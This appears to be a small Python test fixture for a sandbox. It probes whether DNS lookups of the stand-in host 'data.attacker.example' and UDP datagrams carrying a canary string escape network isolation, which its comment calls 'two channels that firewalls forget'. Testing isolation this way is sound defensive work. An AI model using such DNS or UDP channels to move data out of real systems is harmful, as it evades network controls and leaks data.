# Names and datagrams: two channels that firewalls forget.
#! class = "outside"
#! seen = ["cell raised", "stub"]

# %% after setup
import socket

try:
    print(socket.getaddrinfo("data.attacker.example", 80))
except OSError as error:
    print(type(error).__name__)
socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"CANARY-UDP", ("127.0.0.1", @PORT@))
